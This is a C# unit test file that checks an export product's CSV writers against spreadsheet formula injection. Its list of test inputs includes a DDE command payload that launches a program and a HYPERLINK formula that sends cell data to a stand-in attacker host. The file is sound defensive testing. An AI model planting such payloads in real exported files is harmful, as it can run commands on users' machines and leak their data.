using System.Text.RegularExpressions;

namespace KlaviyoExport.Tests;

/// <summary>No cell of a CSV file that this product writes is a formula in a spreadsheet program.</summary>
public sealed partial class CsvCellTests
{
    public static TheoryData<string> Formulas =>
        [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "=cmd|'/c calc'!A1",
            "=HYPERLINK(\"http://evil.example?\"&A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\u3000=1+1",
            "\t",
            "\r",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "x;=1+1",
            "x\t=1+1",
            "x\n=1+1",
            "x\r\n@SUM(A1)",
            "\"=1+1\"",
            "'=1+1",
            "''=1+1",
        ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void No_part_of_a_cell_begins_like_a_formula(string value)
    {
        foreach (var cell in new[] { CsvCell.Of(value), CsvCell.Reversible(value) })
        foreach (var part in Separators().Split(Unquoted(cell)))
            Assert.DoesNotMatch(@"^\s*[=+\-@＝＋－＠]", part);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_cell_of_a_file_that_is_loaded_again_gives_the_same_value(string value) =>
        Assert.Equal(value, CsvCell.Unprotect(Unquoted(CsvCell.Reversible(value))));

    [Theory]
    [InlineData("a=b")]
    [InlineData("ana-maria@example.com")]
    [InlineData("C-1")]
    [InlineData("")]
    public void Other_values_stay_as_they_are(string value) => Assert.Equal(value, CsvCell.Of(value));

    [Fact]
    public void Every_writer_of_CSV_writes_its_cells_so()
    {
        var writers = Directory
            .EnumerateFiles(Path.Combine(Repository.Root, "src"), "*.cs", SearchOption.AllDirectories)
            .Select(file => (Name: Path.GetFileName(file), Text: File.ReadAllText(file)))
            .Where(file =>
                file.Text.Contains("Join(',',", StringComparison.Ordinal) && file.Text.Contains("\\r\\n", StringComparison.Ordinal)
            )
            .ToList();

        Assert.Equal(
            ["AuditCsv.cs", "ListDifferenceCsv.cs", "MendableCsv.cs", "RejectionCsv.cs"],
            writers.Select(file => file.Name).Order(StringComparer.Ordinal)
        );
        Assert.All(writers, file => Assert.Matches(@"Join\(',', cells\.Select\(CsvCell\.(Of|Reversible)\)\)", file.Text));
    }

    private static string Unquoted(string cell) =>
        cell.StartsWith('"') ? cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : cell;

    [GeneratedRegex(@"[;\t\r\n]")]
    private static partial Regex Separators();
}
